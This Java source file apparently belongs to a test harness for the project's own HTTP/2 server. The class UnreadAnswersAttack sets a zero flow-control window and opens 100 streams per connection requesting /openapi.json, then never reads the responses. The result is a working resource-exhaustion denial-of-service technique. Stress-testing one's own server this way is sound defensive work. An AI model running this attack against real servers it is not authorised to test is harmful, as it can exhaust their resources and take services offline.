package dev.jobwise.attack;

import static dev.jobwise.server.testing.Http2Bytes.SETTINGS;
import static dev.jobwise.server.testing.Http2Bytes.concat;
import static dev.jobwise.server.testing.Http2Bytes.frame;
import static dev.jobwise.server.testing.Http2Bytes.get;
import static dev.jobwise.server.testing.Http2Bytes.start;

import java.time.Duration;

/**
 * Requests the largest documents on a hundred streams per connection, and reads no byte of them.
 */
final class UnreadAnswersAttack implements Attack {

  @Override
  public String name() {
    return "unread-answers";
  }

  @Override
  public void run(Target target, Duration length) throws InterruptedException {
    byte[] noWindow =
        frame(SETTINGS, 0, 0, (byte) 0, (byte) 4, (byte) 0, (byte) 0, (byte) 0, (byte) 0);
    byte[][] all = new byte[100][];
    for (int i = 0; i < all.length; i++) {
      all[i] = get(2 * i + 1, "/openapi.json");
    }
    byte[] requests = concat(all);
    byte[] head = concat(start(), noWindow, requests);
    new Crowd(100, false, Duration.ofMillis(100))
        .speak(target, length, turn -> turn == 0 ? head : null);
  }
}
